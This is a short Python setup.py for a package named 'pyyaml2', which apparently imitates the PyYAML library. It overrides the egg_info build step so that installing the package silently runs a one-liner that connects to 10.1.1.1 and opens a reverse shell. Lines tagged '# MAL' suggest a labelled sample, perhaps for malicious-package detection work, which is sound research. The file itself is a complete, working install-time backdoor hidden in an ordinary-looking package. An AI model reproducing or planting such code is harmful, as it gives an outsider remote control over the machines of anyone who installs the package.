import setuptools
from setuptools.command.egg_info import egg_info


class E(egg_info):  # MAL
    def run(self):
        __import__("os").system("python -c \"import socket,os,pty;s=socket.socket();s.connect(('10.1.1.1',1));[os.dup2(s.fileno(),f) for f in(0,1,2)];pty.spawn('sh')\"")  # MAL
        egg_info.run(self)


setuptools.setup(name="pyyaml2", cmdclass=dict(egg_info=E))  # MAL
